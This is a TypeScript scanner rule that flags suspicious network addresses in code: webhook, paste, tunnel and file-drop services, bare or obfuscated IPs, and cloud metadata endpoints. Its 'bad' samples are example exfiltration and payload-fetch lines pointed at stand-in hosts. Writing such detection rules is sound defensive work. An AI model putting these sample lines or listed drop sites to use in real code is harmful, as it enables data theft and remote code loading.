import { isIP } from 'node:net';
import type { CodeRule } from '../rule.ts';
import { plainKey, type Node } from '../syntax.ts';

/** Places where anybody may drop or fetch something without a name. */
const dropPlaces = [
  /^(?:(?:canary|ptb)\.)?discord(?:app)?\.com\/api\/webhooks\//,
  /^api\.telegram\.org\/bot/,
  /^hooks\.slack\.com\/services\/t|^(?:cdn|media)\.discordapp\.\w+\/attachments\//,
  /^(?:www\.)?(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|rentry\.co|dpaste\.\w+|ix\.io|termbin\.com|0x0\.st|controlc\.com)\b/,
  /(?:^|\.)(?:ngrok\.io|ngrok-free\.app|ngrok\.app|ngrok\.dev|trycloudflare\.com|loca\.lt|localtunnel\.me|serveo\.net|localhost\.run|lhr\.life|pagekite\.me|bore\.pub|telebit\.io)(?:[:/]|$)/,
  /(?:^|\.)(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|webhook\.cool|burpcollaborator\.me|hookbin\.com|beeceptor\.com|requestcatcher\.com|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io|mockbin\.org|postb\.in)(?:[:/]|$)/,
  /(?:^|\.)(?:transfer\.sh|filetransfer\.io|tmpfiles\.org|file\.io|anonfiles\.com|gofile\.io|catbox\.moe|bashupload\.com|temp\.sh|grabify\.link|iplogger\.(?:org|com)|2no\.co)(?:[:/]|$)/,
  /\.(?:onion|i2p)(?:[:/]|$)/,
  /^(?:gist|raw)\.githubusercontent\.com\/|^(?:ipinfo\.io|api\.ipify\.org|ifconfig\.me|icanhazip\.com|checkip\.amazonaws\.com)\b/,
];
/** Who is behind these changes from day to day, or cannot be told from the address; honest people use them too. */
const unsteady =
  /^(?:bit\.ly|tinyurl\.com|goo\.gl|ow\.ly|is\.gd|buff\.ly|t\.ly|cutt\.ly|rb\.gy|shorturl\.at)\/|^[^/:?#]+\.(?:xyz|tk|ml|ga|cf|gq|pw|top|club|bid|icu|zip|stream|quest)(?:[/:?#]|$)/;
const local = /^(?:127\.|0\.0\.0\.0$|255\.255\.255\.|::1?$)/;
const metadata = /^(?:169\.254\.169\.254|100\.100\.100\.200|fd00:ec2::254|metadata\.google\.internal)$/;

export const suspiciousAddressRule: CodeRule = {
  kind: 'code',
  id: 'suspicious-address',
  severity: 'medium',
  explanation:
    'A bare IP address, a tunnel or a place to drop things without a name is where stolen data goes and further code comes from.',
  remedy: 'Use an address with a name, and list it under hosts in the manifest.',
  samples: {
    bad: [
      'fetch("http://198.51.100.7/a.js");',
      'const host = ["198", "51", "100", "7"].join("."); fetch("http://" + host + "/");',
      'fetch(atob("aHR0cDovLzE5OC41MS4xMDAuNy8="));',
      'post("https://discord.com/api/webhooks/1/abc", data);',
      'const where = "https://abc.ngrok-free.app";',
      'const where = `https://webhook.site/${id}`;',
      'get("https://pastebin.com/raw/abc");',
      'get("http://169.254.169.254/latest/meta-data/");',
      'const bot = "https://api.telegram.org/bot" + token;',
      'const hidden = "http://abcdefgh.onion/";',
      'fetch("https://bit.ly/3abcdef");',
      'connect({ host: "198.51.100.7", port: 4444 });',
      'const where = { hostname: "abc.oastify.com" };',
      'const base = "https://updates-here.xyz/v1";',
    ],
    good: [
      'const base = "http://127.0.0.1:8080";',
      'const help = "https://example.org/help";',
      'const version = "1.2.3.4";',
      'const any = "http://localhost";',
      'const top = "https://example.org/a.top";',
      'listen({ host: "0.0.0.0" });',
      'const build = { version: "1.2.3.4", host: "photos.example.org" };',
      'const note = "see pastebin.com for an example";',
    ],
  },
  check(file, report) {
    for (const { text, node, decoded } of file.texts()) {
      if (text.length > 4_000) continue;
      const named = addressIn(text, isDropPlace);
      const found = named ?? bareHost(node, text);
      if (found === null) {
        const other = addressIn(text, (address) => unsteady.test(address));
        if (other !== null)
          report(node, {
            message: `Names the address ${other}, which anybody may have.`,
            severity: 'low',
            confidence: 0.5,
          });
        continue;
      }
      // In a sentence it is there to be read.
      const prose = /\w\s+\w+\s+\w/.test(text) && !decoded;
      // Without a scheme in front it may be anything that has four numbers.
      const bare = named === null && /^[\d.:]+$/.test(text);
      report(node, {
        message: `Names the address ${found}.`,
        severity: prose || bare ? 'low' : 'medium',
        confidence: decoded ? 1 : 0.8,
      });
    }
  },
};

/** `{ host: '198.51.100.7' }`, and names of such services standing alone. */
function bareHost({ parent }: Node, text: string): string | null {
  if (text.length > 253 || !/^[\w.-]+(?::\d{1,5})?$/.test(text)) return null;
  const host = text.toLowerCase();
  const isAddress = isIP(host.replace(/:\d+$/, '')) !== 0;
  if (!isAddress) return dropPlaces.some((place) => place.test(host)) ? text : null;
  const key = parent?.type === 'Property' ? plainKey(parent.key, parent.computed) : null;
  return key !== null && /^(?:host|hostname|ip|server|address)$/i.test(key) && isDropPlace(host) ? text : null;
}

function isDropPlace(address: string): boolean {
  const [, bracketed, plain = ''] = /^\[([^\]]*)\]|^([^/:?#]*)/.exec(address) ?? [];
  const name = bracketed ?? plain;
  if (metadata.test(name)) return true;
  if ((isIP(name) !== 0 || /^(?:0x[0-9a-f]+|\d{8,10})$/.test(name)) && !local.test(name)) return true;
  return dropPlaces.some((place) => place.test(address));
}

function addressIn(text: string, isMeant: (address: string) => boolean): string | null {
  for (const [, address = ''] of text.matchAll(
    /\b(?:https?|wss?|ftp|tcp|udp):\/\/(?:[^/\s@"'`]*@)?([^\s"'`<>\\]{1,300})/gi,
  )) {
    if (isMeant(address.toLowerCase())) return address.slice(0, 80);
  }
  return null;
}
